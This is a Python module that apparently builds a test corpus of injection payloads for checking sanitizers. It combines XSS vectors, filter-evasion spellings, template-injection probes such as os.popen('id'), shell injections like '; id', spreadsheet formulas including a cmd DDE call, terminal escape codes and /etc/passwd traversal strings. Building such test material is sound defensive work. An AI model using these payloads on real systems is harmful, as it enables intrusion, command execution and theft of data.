"""Strings that try to get out of their place, made by rule.

Markup is contexts x vectors x scripts x spellings, thinned so that every value of each meets every value of some other;
what is no markup (templates, links, style sheets, formulas, terminal codes, broken Unicode) is listed by family. Each
markup payload calls ``__pwned(number)``, so that a page says which one ran, and asks for an address that nobody serves.
"""

from __future__ import annotations

import base64
from collections.abc import Callable, Iterator
from itertools import count, product

__all__ = ["FORMULAS", "TEMPLATES", "TERMINAL", "UNICODE", "corpus", "markup"]

#: What closes the place that a value stands in, and what opens it again.
CONTEXTS = (
    "{}", '">{}', "'>{}", "`>{}", "-->{}<!--", "]]>{}", "</title>{}", "</textarea>{}", "</style>{}", "</script>{}",
    "</template>{}", "</noscript>{}", "</text></svg>{}", "</code></pre>{}", "</td></tr></table>{}", "</summary>{}",
    "</option></select>{}", "*/{}", "\\\">{}", "&quot;&gt;{}", "\n\n{}", "<b>{}</b>", "|{}|", "> {}", "```\n{}\n```",
)  # fmt: skip
#: Markup that runs `JS` or asks for `URL` by itself, or when something is clicked, shown or moved over.
VECTORS = (
    "<script>JS</script>", "<script src=URL></script>", "<script type=module>JS</script>", "<img src=x onerror=JS>",
    "<img src=URL>", '<img srcset="URL 1x, URL?2 2x">', "<picture><source srcset=URL><img></picture>",
    "<svg onload=JS>", "<svg><script>JS</script></svg>", "<svg><script href=URL /></svg>",
    "<svg><animate onbegin=JS attributeName=x dur=1s>", "<svg><image href=URL></svg>",
    "<svg><a href='javascript:JS'><text y=9>x</text></a></svg>", "<svg><use href='data:image/svg+xml,<svg/>#x'/></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>JS</script>'></iframe></foreignObject></svg>",
    "<svg><style><img src=x onerror=JS></style></svg>", "<body onload=JS>", "<body background=URL>",
    "<details open ontoggle=JS><summary>x</summary></details>", "<video><source onerror=JS></video>",
    "<video src=URL autoplay></video>", "<audio src=URL autoplay onerror=JS></audio>", "<input autofocus onfocus=JS>",
    "<select autofocus onfocus=JS></select>", "<textarea autofocus onfocus=JS></textarea>", "<iframe src='javascript:JS'>",
    "<iframe srcdoc='<script>JS</script>'></iframe>", "<iframe src=URL></iframe>", "<object data='javascript:JS'></object>",
    "<object data=URL></object>", "<embed src=URL>", "<embed src='javascript:JS'>", "<link rel=stylesheet href=URL>",
    "<link rel=prefetch href=URL>", "<style>@import 'URL';</style>", "<style>*{background:url(URL)}</style>",
    "<style>@keyframes k{}p{animation:k 1s}</style><p onanimationstart=JS>x</p>", "<p style='background:url(URL)'>x</p>",
    "<p style='animation:k 1s' onanimationstart=JS>x</p>", "<base href=URL>", "<meta http-equiv=refresh content='0;url=URL'>",
    "<meta http-equiv=refresh content='0;url=data:text/html,x'>", "<form action='javascript:JS'><input type=submit></form>",
    "<form><button formaction='javascript:JS'>x</button></form>", "<a href='javascript:JS'>x</a>",
    "<a href='data:text/html,<script>JS</script>'>x</a>", "<a href='#' onclick=JS>x</a>", "<p onmouseover=JS>x</p>",
    "<p tabindex=1 onfocus=JS autofocus>x</p>", "<p contenteditable oncopy=JS onpaste=JS>x</p>", "<marquee onstart=JS>x</marquee>",
    "<table background=URL><td background=URL>x</table>", "<math><mtext></form><form><mglyph><style></math><img src=x onerror=JS>",
    "<math href='javascript:JS'>x</math>", "<noscript><p title='</noscript><img src=x onerror=JS>'>",
    "<template><script>JS</script></template>", "<div><template shadowrootmode=open><img src=x onerror=JS></template></div>",
    "<dialog open oncancel=JS>x</dialog>", "<button popovertarget=x>x</button><div popover id=x onbeforetoggle=JS>x</div>",
    "<xss id=x tabindex=1 onfocusin=JS>x</xss>", "<x onclick=JS>x</x>", "<frameset onload=JS>", "<isindex action='javascript:JS'>",
    "<!--[if gte IE 4]><script>JS</script><![endif]-->", "<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>JS</x:script>",
    "<!DOCTYPE x [<!ENTITY e 'JS'>]><script>&e;</script>",
)  # fmt: skip
#: Attributes alone, for a value that stands inside a tag.
ATTRIBUTES = (
    "Qonmouseover=QJSQ xQ", "Qonfocus=QJSQ autofocus tabindex=1 xQ", "Qonload=QJSQ xQ", "Q/onpointerenter=QJSQ xQ",
    "Qstyle=Qbackground:url(URL)Q xQ", "Qhref=Qjavascript:JSQ xQ", "Qsrc=QURLQ xQ", "Qontoggle=QJSQ xQ",
    "Qclass=Qfix-Q id=Qtop", "Qsrcdoc=Q&lt;script&gt;JS&lt;/script&gt;Q",
)  # fmt: skip
#: How a script is said.
SCRIPTS: tuple[Callable[[int], str], ...] = (
    lambda n: f"__pwned({n})",
    lambda n: f"window['__pwn'+'ed']({n})",
    lambda n: f"top.__pwned?.({n})",
    lambda n: f"self[atob('{base64.b64encode(b'__pwned').decode()}')]({n})",
    lambda n: f"__pwned`{n}`",
    lambda n: "".join(f"&#{ord(c)};" for c in f"__pwned({n})"),
    lambda n: "".join(f"&#x{ord(c):x}" for c in f"__pwned({n})"),
    lambda n: f"\\u005f_pwned({n})",
    lambda n: f"setTimeout('__pwned({n})')",
    lambda n: f"document.body.dataset.pwned={n}",
    lambda n: f"alert({n})",
    lambda n: f"eval(String.fromCharCode({','.join(str(ord(c)) for c in f'__pwned({n})')}))",
)


def _mixed(text: str) -> str:
    """Change the case of tags and attributes but not of scripts: every other letter that follows ``<``."""
    out, tag = [], False
    for i, c in enumerate(text):
        tag = c == "<" or (tag and (c.isalpha() or c == "/"))
        out.append(c.upper() if tag and i % 2 else c)
    return "".join(out)


#: Spellings of the same markup that some filter or parser has let through.
SPELLINGS: tuple[Callable[[str], str], ...] = (
    lambda t: t,
    _mixed,
    lambda t: t.replace(" on", "/on").replace(" src", "/src"),
    lambda t: t.replace(" on", "\t\non").replace(" src", "\x0csrc"),
    lambda t: t.replace(" on", "\x0b on").replace("=", " = "),
    lambda t: t.replace("javascript:", "java\tscript:").replace("script>", "script\x00>"),
    lambda t: t.replace("javascript:", "\x01 JaVaScRiPt\n:"),
    lambda t: t.replace("javascript:", "javascript&colon;").replace("'javascript", "'&Tab;javascript"),
    lambda t: t.replace("<", "<\x00"),
    lambda t: t.replace("<", "&lt;").replace(">", "&gt;"),
    lambda t: t.replace("<", "&amp;lt;").replace(">", "&amp;gt;"),
    lambda t: t.replace("<", "%3C").replace(">", "%3E"),
    lambda t: t.replace("<", "%253C").replace(">", "%253E"),
    lambda t: t.replace("<", "\\u003c").replace(">", "\\u003e"),
    lambda t: t.replace("<", "\\x3c").replace(">", "\\x3e"),
    lambda t: t.replace("<", "＜").replace(">", "＞").replace('"', "＂"),
    lambda t: t.replace("<", "\udcc0\udcbc").replace(">", "\udcc0\udcbe"),
    lambda t: t.replace("<", "+ADw-").replace(">", "+AD4-"),
    lambda t: t.replace("<", "<<"),
    lambda t: t.replace("<", "\u200b<\ufeff"),
    lambda t: f"\u202e{t}\u2066",
    lambda t: t.replace("script", "scr\u00adipt").replace("script", "ſcript"),
    lambda t: t.replace("<", "‹").replace(">", "›"),
    lambda t: t.rstrip(">"),
    lambda t: f"{t}\x1b[31m\x9b32m",
    lambda t: f"\ud800{t}\udfff",
    lambda t: f"\ufffe{t}\U0001ffff",
)

#: What a template engine, a format string or a shell would work out; `49` in a page would betray it.
TEMPLATES = (
    "{{7*7}}", "{{ 7*'7' }}", "{%raw%}{{7*7}}{%endraw%}", "{% include '/etc/passwd' %}", "{% for x in range(9**9) %}x{% endfor %}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}", "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ self._TemplateReference__context }}", "{{ config }}", "{{ w.__class__ }}", "{# 7*7 #}", "{%- set x = 7*7 -%}",
    "${7*7}", "#{7*7}", "<%= 7*7 %>", "<% 7*7 %>", "[[${7*7}]]", "@{7*7}", "*{7*7}", "~{7*7}", "{{constructor.constructor('__pwned(0)')()}}",
    "{0.__class__.__init__.__globals__}", "{0}", "{}", "{answer_a}", "{output_1}", "{$checklist}", "{question}", "%(name)s", "%s%s%n",
    "%99999999d", "{:>99999999}", "{!r}", "$(id)", "`id`", "${IFS}", "; id", "| id", "$HOME", "\\N{BULLET}", "__import__('os')",
    "{{ answer_b }}", "{{#with x}}{{/with}}", "{php}7*7{/php}", "<#assign x=7*7>${x}", "#set($x=7*7)$x", "=7*7", "{{=7*7}}",
)  # fmt: skip
#: Links and images as a Markdown reader would make them.
LINKS = (
    "[x](javascript:__pwned(1))", "[x](JaVaScRiPt&colon;__pwned(2))", "[x](<javascript:__pwned(3)>)", "![x](URL)",
    "[x]: URL 'x'\n[x]", "<javascript:__pwned(4)>", "<URL>", "[x](data:text/html,<script>__pwned(5)</script>)",
    "![](x'onerror=__pwned(6)')", '[x](x "onmouseover=__pwned(7)")', "[![x](URL)](javascript:__pwned(8))", "[x][javascript:__pwned(9)]",
    "[x](vbscript:__pwned(10))", "[x](\x01javascript:__pwned(11))", "[x](java%0ascript:__pwned(12))", "[x](//pwned.invalid)",
    "<a href=javascript:__pwned(13)>", "@pwned #1 owner/repo#2 GH-3", "URL", "www.pwned.invalid", "mailto:x@pwned.invalid",
    "# x\n---\n<script>__pwned(14)</script>", "| a | b |\n|---|---|\n| <img src=x onerror=__pwned(15)> | x |",
)  # fmt: skip
#: For a value that stands in a style sheet, a script, an attribute of SVG or a comment.
CODE = (
    "red;background:url(URL)", "expression(__pwned(1))", "x}*{background:url(URL)}", "</style><script>__pwned(2)</script>",
    "\\3c script\\3e __pwned(3)", "@import 'URL'", "url(javascript:__pwned(4))", "'};__pwned(5);//", '"};__pwned(6);//',
    "</script><script>__pwned(7)//", "\u2028__pwned(8)", "\u2029__pwned(9)", "*/__pwned(10)/*", "<!--<script>", "<![CDATA[<script>__pwned(11)</script>]]>",
    "<![CDATA[", "]]><svg onload=__pwned(12)>", "?><script>__pwned(13)</script>", "&xxe;", "&#0;", "&#x110000;", "&lt;", "&amp;lt;",
    "javascript:__pwned(14)", "JAVASCRIPT:__pwned(15)", " javascript:__pwned(16)", "java\nscript:__pwned(17)",
    "data:text/html;base64,PHNjcmlwdD5fX3B3bmVkKDE4KTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=__pwned(19) xmlns='http://www.w3.org/2000/svg'/>",
    "blob:null/1", "file:///etc/passwd", "view-source:URL", "top", "__proto__", "constructor", "body", "submission-0", "fix",
)  # fmt: skip
#: What a spreadsheet runs, in every form that one is known to take.
FORMULAS = tuple(
    f"{lead}{sign}{body}"
    for lead in ("", " ", "\t", "\r", "\n", "\u00a0", "\u3000", "\u200b", "\ufeff", "\x00", "\x0b", "\u202e", " \t ", '"', "'", ";", ",")
    for sign, body in (
        ("=", "cmd|' /C calc'!A0"), ("+", "1+HYPERLINK(\"URL\")"), ("-", "2+3+cmd|x!A"), ("@", "SUM(1)"), ("＝", "1"),
        ("＋", "1"), ("－", "1"), ("＠", "SUM(1)"), ("=", 'IMPORTXML("URL","//a")'), ("=", 'WEBSERVICE("URL")'),
    )
)  # fmt: skip
#: What a terminal obeys: colours, the title, the clipboard, links, the screen, 8-bit codes, reordering.
TERMINAL = (
    "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x1b]52;c;cHduZWQ=\x07", "\x1b]8;;URL\x1b\\x\x1b]8;;\x1b\\", "\x1b[2J\x1b[H",
    "\x1b[1A\x1b[2Kgone", "over\rwritten", "x\x08\x08y", "\x9b31mC1", "\x9d0;title\x9c", "\x90q#0\x9c", "\x1bP+q\x1b\\", "\x1bc",
    "\x1b[?1049h", "\x1b[6n", "\x07", "\x0e\x0f", "\x85next line", "\x0bvt\x0cff", "\x7fdel", "\u202egnp.exe", "\u2066x\u2069",
    "\u200e\u200f\u061c", "\u2028line\u2029", "a\nb", "tab\there", "\x00nul", "\U000e0041\U000e0042tags", "\u200bzero\u200dwidth\ufeff",
    "\x1b[999999999b", "\x1b]1337;File=:AA==\x07", "\x1b_Gf=24;AAAA\x1b\\", "\x1b^pm\x1b\\", "\x1bXsos\x1b\\",
)  # fmt: skip
#: Text that is hard to hold: unpaired halves, overlong forms, piles of marks, great lengths, names of files.
UNICODE = (
    "\ud800", "\udfff", "\udc80\udcff", "\ud83d", "\ufffe\uffff", "\U0010ffff", "Z" + "\u0351\u0489\u0322" * 200, "\u0300",
    "a" * 20_000, "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 50, "\u202e" * 100, "\u2066" * 500, "ﷺ" * 300, "", " ", "\n",
    "\u3164", "\u115f", "../../../../etc/passwd", "..\\..\\x", "/etc/passwd", "C:\\x", "CON", "nul.txt", "x\x00.html", ".", "..", "~", "-rf",
    "--help", "a/b", "a\\b", "file:///x", "%2e%2e%2f", "x" * 300, "İı", "ß", "ﬃ", "\u1e9e", "１２３", "٤٢", "1e999", "NaN", "null",
)  # fmt: skip


def _thinned() -> Iterator[tuple[str, Callable[[int], str], Callable[[str], str], str]]:
    """Yield vector, script, spelling and context: each vector with each spelling, the others turning underneath."""
    turn = count()
    for vector, spelling in product(VECTORS, SPELLINGS):
        k = next(turn)
        if spelling is SPELLINGS[0] or k % 3 == 0:
            yield vector, SCRIPTS[k % len(SCRIPTS)], spelling, CONTEXTS[k % len(CONTEXTS)]
    for k, (attribute, quote) in enumerate(product(ATTRIBUTES, ('"', "'", "`", " ", "&quot;"))):
        yield attribute.replace("Q", quote), SCRIPTS[k % 5], SPELLINGS[k % 4], "{}"
    for k, (context, vector) in enumerate(product(CONTEXTS, VECTORS[:4])):
        yield vector, SCRIPTS[k % 5], SPELLINGS[0], context


def _filled(text: str, n: int) -> str:
    return text.replace("URL", f"http://127.0.0.1:9/{n}")


def markup() -> list[str]:
    """Return the payloads that are markup; the k-th says ``__pwned(k)`` if it runs, or asks for ``…:9/k``."""
    return [
        _filled(context.replace("{}", spelling(vector.replace("JS", script(n)))), n)
        for n, (vector, script, spelling, context) in enumerate(_thinned())
    ]


def corpus() -> list[str]:
    """Return every payload once: markup first, then the other families."""
    others = [_filled(text, 0) for family in (TEMPLATES, LINKS, CODE, FORMULAS, TERMINAL, UNICODE) for text in family]
    return list(dict.fromkeys([*markup(), *others]))
